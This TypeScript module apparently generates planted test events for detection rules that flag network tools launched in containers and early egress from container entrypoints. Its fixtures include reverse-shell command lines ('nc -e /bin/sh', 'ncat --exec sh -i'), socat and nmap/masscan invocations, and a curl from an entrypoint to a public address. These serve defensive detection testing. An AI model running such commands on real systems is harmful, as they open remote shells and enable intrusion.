import { networkDocument, processDocument, type Deviation } from "./generate-documents.ts";
import type { Random } from "./generate-random.ts";
import { createProcess, entityIdOf, type Container, type Host, type Process } from "./generate-world.ts";

/** The built-in rules, by name. */
export const TOOL_RULE = "Suspicious network tool launched inside a container";
export const EGRESS_RULE = "Egress connection from an entrypoint in a container";

/** One event of a planted attack: `t` its time, `render` its document, written in the order of the list. */
export interface PlantedEvent {
  readonly t: number;
  readonly render: () => string;
}

/** A planted attack or near miss. `findings` name its events by their place in `events`. */
export interface Plant {
  readonly rule: typeof TOOL_RULE | typeof EGRESS_RULE;
  readonly kind: string;
  readonly events: readonly PlantedEvent[];
  readonly findings: readonly (readonly number[])[];
}

/** Where a plant goes: `other` is a second host, `t` the time of its first event. */
export interface Scene {
  readonly random: Random;
  readonly host: Host;
  readonly other: Host;
  readonly t: number;
}

type Planter = (scene: Scene) => Omit<Plant, "rule" | "kind">;

const MS = 1_000_000;

/** Public addresses to the rule; no host answers at them. */
const PUBLIC = ["29.71.4.19", "29.71.4.23", "29.130.8.5", "2001:db8:71::19"] as const;

function containerOf(scene: Scene, host = scene.host): Container {
  return scene.random.pick(host.containers);
}

interface Tool {
  readonly name: string;
  readonly args: readonly string[];
  readonly deviation?: Deviation;
  readonly outside?: boolean;
}

function tool(hit: boolean, what: Tool): Planter {
  return (scene) => {
    const { host, random, t } = scene;
    const container = what.outside === true ? null : containerOf(scene);
    const process = createProcess(
      host.agentId,
      random,
      {
        executable: `/usr/bin/${what.name}`,
        name: what.name,
        args: what.args,
        user: "nobody",
        parent: host.init,
        container,
        entryType: container === null ? "init" : "container",
      },
      t,
    );
    const render = (): string => processDocument(host, random, process, t, "cloud_defend.process", what.deviation);
    return { events: [{ t, render }], findings: hit ? [[0]] : [] };
  };
}

const TOOL_PLANTS: Readonly<Record<string, Planter>> = {
  "plain name": tool(true, { name: "nc", args: ["nc", "-e", "/bin/sh", "29.71.4.19", "4444"] }),
  "name in capitals": tool(true, { name: "NMAP", args: ["NMAP", "-sn", "10.244.0.0/24"] }),
  "argument only": tool(true, { name: "timeout", args: ["timeout", "20", "socat", "-", "TCP:29.71.4.19:8443"] }),
  "argument in capitals": tool(true, { name: "busybox", args: ["busybox", "TelNet", "10.244.1.9", "6379"] }),
  "start and end in one event": tool(true, {
    name: "dig",
    args: ["dig", "+short", "api.example"],
    deviation: { action: '["exec","end"]', type: '["start","end"]' },
  }),
  "event.type not in an array": tool(true, { name: "masscan", args: ["masscan"], deviation: { type: '"start"' } }),
  "NUL in another argument": tool(true, { name: "ncat", args: ["ncat", "--exec", "sh\u0000-i", "29.71.4.23"] }),
  "name with a hidden NUL": tool(false, { name: "nc\u0000", args: ["nc\u0000", "-l"] }),
  "argument with a hidden NUL": tool(false, { name: "sh", args: ["sh", "-c", "nmap\u0000"] }),
  "tool within a longer argument": tool(false, { name: "sh", args: ["sh", "-c", "nmap -sS 10.244.0.0/16"] }),
  "name that only begins like a tool": tool(false, { name: "ncdu", args: ["ncdu", "/srv"] }),
  "path of a tool as argument": tool(false, { name: "ls", args: ["ls", "-l", "/usr/bin/nmap"] }),
  "end of the tool": tool(false, { name: "nc", args: ["nc"], deviation: { action: '"end"', type: '["end"]' } }),
  "outside of a container": tool(false, { name: "tcpdump", args: ["tcpdump", "-ni", "eth0"], outside: true }),
  "container without an id": tool(false, {
    name: "telnet",
    args: ["telnet"],
    deviation: { container: '"container":{"id":null,"name":"?"},' },
  }),
};

/** The entrypoint of a container and the processes it starts. */
class Entrypoint {
  readonly scene: Scene;
  readonly host: Host;
  readonly script: Process;
  readonly child: Process;

  constructor(scene: Scene, options: { host?: Host; name?: string; entityId?: string; parentId?: string } = {}) {
    const { random, t } = scene;
    this.scene = scene;
    this.host = options.host ?? scene.host;
    const container = containerOf(scene, this.host);
    const { agentId } = this.host;
    const args = ["/bin/sh", "/opt/bootstrap/entrypoint.sh"];
    const spec = { executable: "/opt/bootstrap/entrypoint.sh", args, user: "root", container } as const;
    const entityId = options.entityId ?? entityIdOf(agentId, 1, t);
    const entry = { parent: this.host.init, entryType: "container" } as const;
    const name = options.name ?? "entrypoint.sh";
    this.script = createProcess(agentId, random, { ...spec, ...entry, name, entityId }, t);
    const parentId = options.parentId ?? entityId;
    const parent = createProcess(agentId, random, { ...spec, ...entry, entityId: parentId }, t);
    const curl = { executable: "/usr/bin/curl", args: ["curl", "-s", "https://29.71.4.19/b"], user: "root" } as const;
    this.child = createProcess(agentId, random, { ...curl, parent, container }, t);
  }

  starts(afterNs: number, deviation: Deviation = {}): PlantedEvent {
    const t = this.scene.t + afterNs;
    return {
      t,
      render: () => processDocument(this.host, this.scene.random, this.script, t, "endpoint.events.process", deviation),
    };
  }

  connects(afterNs: number, destination: string | null = `"${this.scene.random.pick(PUBLIC)}"`): PlantedEvent {
    const t = this.scene.t + afterNs;
    const connection = { destination, port: 443 };
    return { t, render: () => networkDocument(this.host, this.scene.random, this.child, t, connection) };
  }
}

/** An entrypoint and one connection, `afterNs` later. */
function egress(hit: boolean, afterNs: number, destination?: string | null): Planter {
  return (scene) => {
    const entrypoint = new Entrypoint(scene);
    return { events: [entrypoint.starts(0), entrypoint.connects(afterNs, destination)], findings: hit ? [[0, 1]] : [] };
  };
}

const EGRESS_PLANTS: Readonly<Record<string, Planter>> = {
  "0.4 s": egress(true, 400 * MS),
  "2.9 s": egress(true, 2900 * MS),
  "exactly 3 s": egress(true, 3000 * MS),
  "3 s and 1 ns": egress(false, 3000 * MS + 1),
  "3.001 s": egress(false, 3001 * MS),
  IPv6: egress(true, 700 * MS, '"2001:db8:71::19"'),
  "an array of public addresses": egress(true, 800 * MS, '["29.71.4.19","29.71.4.23"]'),
  "one private address among others": egress(false, 800 * MS, '["29.71.4.19","10.0.0.7"]'),
  private: egress(false, 900 * MS, '"10.244.3.8"'),
  "link-local": egress(false, 900 * MS, '"fe80::42"'),
  "no address": egress(false, 900 * MS, null),
  "0.0.0.0": egress(false, 900 * MS, '"0.0.0.0"'),
  "equal times, entrypoint first": egress(true, 0),
  "equal times, connection first": (scene) => {
    const entrypoint = new Entrypoint(scene);
    return { events: [entrypoint.connects(0), entrypoint.starts(0)], findings: [] };
  },
  "written before its entrypoint": (scene) => {
    const entrypoint = new Entrypoint(scene);
    return { events: [entrypoint.connects(1700 * MS + 1), entrypoint.starts(0)], findings: [[1, 0]] };
  },
  "two entrypoints, the latest counts": (scene) => {
    const entrypoint = new Entrypoint(scene);
    const events = [entrypoint.starts(0), entrypoint.starts(2000 * MS), entrypoint.connects(4500 * MS)];
    return { events, findings: [[1, 2]] };
  },
  "two connections, the first counts": (scene) => {
    const entrypoint = new Entrypoint(scene);
    const events = [entrypoint.starts(0), entrypoint.connects(500 * MS), entrypoint.connects(900 * MS)];
    return { events, findings: [[0, 1]] };
  },
  "two hosts, one entity id": (scene) => {
    const here = new Entrypoint(scene);
    const there = new Entrypoint(scene, { host: scene.other, entityId: here.script.entityId });
    return { events: [here.starts(0), there.connects(600 * MS)], findings: [] };
  },
  "name with a hidden NUL": (scene) => {
    const entrypoint = new Entrypoint(scene, { name: "entrypoint.sh\u0000" });
    return { events: [entrypoint.starts(0), entrypoint.connects(600 * MS)], findings: [] };
  },
  "parent id with a hidden NUL": (scene) => {
    const entityId = entityIdOf(scene.host.agentId, 2, scene.t);
    const entrypoint = new Entrypoint(scene, { entityId, parentId: `${entityId}\u0000` });
    return { events: [entrypoint.starts(0), entrypoint.connects(600 * MS)], findings: [] };
  },
  "fork instead of exec": (scene) => {
    const entrypoint = new Entrypoint(scene);
    return { events: [entrypoint.starts(0, { action: '"fork"' }), entrypoint.connects(600 * MS)], findings: [] };
  },
};

const KINDS: readonly (readonly [rule: Plant["rule"], kind: string, planter: Planter])[] = [
  ...Object.entries(TOOL_PLANTS).map(([kind, planter]) => [TOOL_RULE, kind, planter] as const),
  ...Object.entries(EGRESS_PLANTS).map(([kind, planter]) => [EGRESS_RULE, kind, planter] as const),
];

/** How many different plants there are; a dump with at least as many holds each of them. */
export const PLANT_KINDS: number = KINDS.length;

/** The `n`th plant: the kinds in turn. */
export function plant(n: number, scene: Scene): Plant {
  const kind = KINDS[n % KINDS.length];
  if (kind === undefined) throw new Error(`no plant ${n}`);
  const [rule, name, planter] = kind;
  return { rule, kind: name, ...planter(scene) };
}
